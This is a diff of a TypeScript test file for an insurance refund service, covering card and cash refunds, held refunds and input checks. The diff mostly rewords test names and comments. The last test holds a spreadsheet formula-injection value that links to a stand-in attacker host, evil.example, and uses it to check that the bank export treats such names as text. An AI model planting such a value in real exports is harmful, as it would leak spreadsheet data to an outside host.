@@ -44,7 +44,7 @@ async function listed(contract: Draft): Promise<Row | undefined> {
   return rows.find(({ addendumNumber }) => addendumNumber.startsWith(contract.policyNumber));
 }
 
-/** Lets the acquirer's time pass until it is so, and turns it back. */
+/** Advances the acquirer's time until the condition is met, then turns it back. */
 async function untilSettled(isSo: () => Promise<boolean>): Promise<void> {
   const now = service.clock.now().toISOString();
   await until(async () => {
@@ -55,7 +55,7 @@ async function untilSettled(isSo: () => Promise<boolean>): Promise<void> {
   service.clock.set(now);
 }
 
-/** A contract paid by card and ended. */
+/** A contract paid by card and terminated. */
 async function endedAfterCard(card = goodCard) {
   const contract = await savedDraft(partner);
   const link = await openLink(partner, contract, 'CARD');
@@ -66,7 +66,7 @@ async function endedAfterCard(card = goodCard) {
   return { contract, link, refund: Number(refund).toFixed(2) };
 }
 
-test('what was paid by card goes back to the card, and the books say so', async () => {
+test('a card payment is refunded to the card and recorded in the books', async () => {
   const { contract, link, refund } = await endedAfterCard();
   const row = await listed(contract);
   assert.ok(row);
@@ -91,7 +91,7 @@ test('what was paid by card goes back to the card, and the books say so', async 
   assert.match(again.stderr, /nothing is left of refund \d+/);
 });
 
-test("a refund that the client's bank refuses is the staff's to transfer", async () => {
+test("a refund the client's bank refuses is left to staff as a transfer", async () => {
   const { contract, link, refund } = await endedAfterCard('4000000000005126');
   const row = await listed(contract);
   assert.ok(row);
@@ -104,7 +104,7 @@ test("a refund that the client's bank refuses is the staff's to transfer", async
   assert.equal(await listed(contract), undefined);
 });
 
-test('what was paid in cash is transferred: a list for the bank, and a note when it is done', async () => {
+test('a cash payment is refunded by transfer: a list for the bank, and a record when done', async () => {
   const contract = await soldContract(partner);
   const { refund } = await terminate(partner, contract);
   const row = await listed(contract);
@@ -139,7 +139,7 @@ test('what was paid in cash is transferred: a list for the bank, and a note when
   assert.equal(twice.code, 1);
 });
 
-test('a refund is due in ten working days, and held where a claim is decided first', async () => {
+test('a refund is due in ten working days, and held while a claim is decided', async () => {
   const contract = await soldContract(partner);
   const ended = await terminate(partner, contract);
   assert.equal(ended.refundBefore, '2026-12-04');
@@ -163,7 +163,7 @@ test('a refund is due in ten working days, and held where a claim is decided fir
   assert.equal((await command('transferred', row.id, '--document', '20')).code, 0);
 });
 
-test('a surcharge that was paid by card goes back first, the rest from the premium', async () => {
+test('a surcharge paid by card is refunded first, the rest from the premium', async () => {
   const contract = await soldContract(partner);
   const { premiumDifference } = await change(partner, contract, youngDriverAdded);
   const link = await openLink(partner, contract, 'SBP', { amount: premiumDifference ?? 0 }, 2);
@@ -181,7 +181,7 @@ test('a surcharge that was paid by card goes back first, the rest from the premi
   assert.equal((await listed(contract))?.toTransfer, left);
 });
 
-test('a refund that the bank will not hear of is not taken for done because another part went back before', async () => {
+test('a refund the bank refuses is not marked done because of an earlier partial refund', async () => {
   const contract = await savedDraft(partner, { set: { 'insuredObject.osago.purpose': 'TAXI' } });
   const link = await openLink(partner, contract, 'CARD');
   await browser.card(link, goodCard);
@@ -192,7 +192,7 @@ test('a refund that the bank will not hear of is not taken for done because anot
   assert.ok(first);
   assert.equal((await command('acquirer', first.id)).code, 0);
   await untilSettled(async () => (await listed(contract)) === undefined);
-  // A part was given back in the bank's own pages: what is left there is less than what is owed.
+  // A partial refund made in the bank's own interface leaves less than the refund due.
   await service.pool.query(
     `update sandbox_bank_payments set refunded_kopecks = refunded_kopecks + 600000
       where payment_id::text in (select acquirer_payment_id from acquirer_money where order_id = $1)`,
@@ -206,7 +206,7 @@ test('a refund that the bank will not hear of is not taken for done because anot
   assert.equal((await listed(contract))?.toTransfer, Number(refund).toFixed(2));
 });
 
-test('an unknown number and no number', async () => {
+test('an unknown number and a missing number are refused', async () => {
   for (const words of [
     ['acquirer', '999999'],
     ['acquirer', 'x'],
@@ -219,7 +219,7 @@ test('an unknown number and no number', async () => {
   }
 });
 
-test('a name that begins like a formula is a text in the list for the bank', async () => {
+test('a name that begins like a formula is exported as text', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1;"ООО")';
   const contract = await soldContract(partner, {
     holderType: 'corporate',
